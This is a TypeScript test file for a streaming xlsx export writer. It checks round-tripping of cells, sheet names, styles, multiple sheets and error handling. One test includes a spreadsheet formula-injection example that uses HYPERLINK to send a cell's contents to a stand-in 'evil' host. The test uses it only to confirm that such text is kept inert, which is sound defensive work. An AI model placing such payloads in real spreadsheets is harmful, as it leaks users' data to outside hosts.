import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import * as XLSX from 'xlsx';
import { type SheetCell, type SheetContent, xlsxBytes } from '../../../server/export/xlsxWriter';

async function workbookOf(sheets: SheetContent[]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of xlsxBytes(sheets)) chunks.push(chunk);
  return Buffer.concat(chunks);
}

/** Each sheet's rows as exceljs's streaming reader (the one imports use) hands them over. */
async function streamedRows(file: Buffer): Promise<{ name: string; rows: unknown[][] }[]> {
  const sheets: { name: string; rows: unknown[][] }[] = [];
  for await (const worksheet of new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([file]), {})) {
    const rows: unknown[][] = [];
    for await (const row of worksheet) rows.push((row.values as unknown[]).slice(1));
    sheets.push({ name: (worksheet as unknown as { name: string }).name, rows });
  }
  return sheets;
}

const HOSTILE: SheetCell[] = [
  '<b>& "quoted" \'single\'</b>',
  '  edge spaces  ',
  'line\nbreak',
  'bell\u0007 and nul\u0000 dropped',
  '中文 𠜎😀',
  '=1+1',
];

describe('xlsxBytes', () => {
  it('writes text, numbers, booleans and empty cells that exceljs and SheetJS read back as written', async () => {
    const file = await workbookOf([
      {
        name: '报警 & <列表>',
        header: ['位号', '数值', '启用', '备注'],
        widths: [20, 10, 8, 32],
        rows: [
          ['FIC-101', 12.5, true, null],
          ['TIC-7', -3, false, ''],
          ['NaN', Number.NaN, null, 'after an empty cell'],
          ...HOSTILE.map((text) => ['X', 1, true, text]),
        ],
      },
    ]);

    const [sheet] = await streamedRows(file);
    expect(sheet.name).toBe('报警 & <列表>');
    expect(sheet.rows[0]).toEqual(['位号', '数值', '启用', '备注']);
    expect(sheet.rows[1]).toEqual(['FIC-101', 12.5, true]);
    expect(sheet.rows[2]).toEqual(['TIC-7', -3, false, '']);
    expect(sheet.rows[3]).toEqual(['NaN', undefined, undefined, 'after an empty cell']);
    expect(sheet.rows.slice(4).map((row) => row[3])).toEqual([
      '<b>& "quoted" \'single\'</b>',
      '  edge spaces  ',
      'line\nbreak',
      'bell and nul dropped',
      '中文 𠜎😀',
      '=1+1',
    ]);

    const book = XLSX.read(file, { type: 'buffer' });
    expect(book.SheetNames).toEqual(['报警 & <列表>']);
    const grid = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0]], { header: 1, defval: null });
    expect(grid[1]).toEqual(['FIC-101', 12.5, true, null]);
    expect(grid[5]).toEqual(['X', 1, true, '  edge spaces  ']);
    // A formula-looking text stays text.
    expect(book.Sheets[book.SheetNames[0]].D10).toMatchObject({ t: 's', v: '=1+1' });
  });

  it('marks text a spreadsheet would take for a formula with quotePrefix, keeping it as written', async () => {
    const texts = ['=HYPERLINK("http://evil/?x="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=1', '1-2'];
    const file = await workbookOf([{ name: 'S', header: ['=header'], widths: [], rows: texts.map((text) => [text]) }]);
    const archive = XLSX.CFB.read(file, { type: 'buffer' });
    const part = (name: string) => Buffer.from(XLSX.CFB.find(archive, `/${name}`)?.content ?? []).toString('utf8');
    expect(part('xl/styles.xml')).toMatch(/<cellXfs count="3">.*<xf [^>]*quotePrefix="1"\/><\/cellXfs>/);
    const styleOf = (reference: string) =>
      new RegExp(`<c r="${reference}"( s="(\\d+)")?`).exec(part('xl/worksheets/sheet1.xml'))?.[2];
    expect(texts.map((_, index) => styleOf(`A${index + 2}`))).toEqual([
      '2',
      '2',
      '2',
      '2',
      '2',
      '2',
      undefined,
      undefined,
    ]);
    // Our own header keeps its bold style.
    expect(styleOf('A1')).toBe('1');
    const book = XLSX.read(file, { type: 'buffer' });
    const grid = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.S, { header: 1, raw: true });
    expect(grid.slice(1).map((row) => row[0])).toEqual(texts);
  });

  it('keeps text that looks like an XML entity as typed', async () => {
    const text = 'A&amp;B &lt;tag&gt; &#38;';
    const file = await workbookOf([{ name: 'S', header: ['a'], widths: [], rows: [[text]] }]);
    expect(XLSX.read(file, { type: 'buffer' }).Sheets.S.A2.v).toBe(text);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(file).buffer);
    expect(workbook.worksheets[0].getCell('A2').value).toBe(text);
    // exceljs's streaming reader decodes entities a second time in any text it did not read from shared
    // strings (its own writer's `t="str"` cells alike), so it alone would read `A&B <tag> &#38;`.
  });

  it('gives the header row a bold font, freezes it and keeps the column widths', async () => {
    const file = await workbookOf([{ name: 'S', header: ['a', 'b'], widths: [20, 8], rows: [['x', 1]] }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(file).buffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('A2').font?.bold).toBeFalsy();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.columns.map((column) => column.width)).toEqual([20, 8]);
  });

  it('writes several sheets in order, rows from async iterables, across many deflated pieces', async () => {
    async function* many(): AsyncGenerator<SheetCell[]> {
      for (let index = 0; index < 5000; index++) yield [`点 ${index}`, index, index % 2 === 0];
    }
    const file = await workbookOf([
      { name: '第一', header: ['名称', '序号', '偶数'], widths: [16, 8, 8], rows: many() },
      { name: 'second', header: ['only'], widths: [], rows: [] },
    ]);
    const sheets = await streamedRows(file);
    expect(sheets.map((sheet) => sheet.name)).toEqual(['第一', 'second']);
    expect(sheets[0].rows).toHaveLength(5001);
    expect(sheets[0].rows[4321]).toEqual(['点 4320', 4320, true]);
    expect(sheets[1].rows).toEqual([['only']]);
  });

  it('fails with the rows’ own error, and releases the rows when the reader stops early', async () => {
    const failing = async function* (): AsyncGenerator<SheetCell[]> {
      yield ['one'];
      throw new Error('query failed');
    };
    await expect(workbookOf([{ name: 'S', header: ['a'], widths: [], rows: failing() }])).rejects.toThrow(
      'query failed',
    );

    let released = false;
    const endless = async function* (): AsyncGenerator<SheetCell[]> {
      try {
        for (let index = 0; ; index++) yield [`row ${index}`, 'x'.repeat(100)];
      } finally {
        released = true;
      }
    };
    let bytes = 0;
    for await (const chunk of xlsxBytes([{ name: 'S', header: ['a', 'b'], widths: [], rows: endless() }])) {
      bytes += chunk.length;
      if (bytes > 256 * 1024) break;
    }
    expect(released).toBe(true);
  });
});
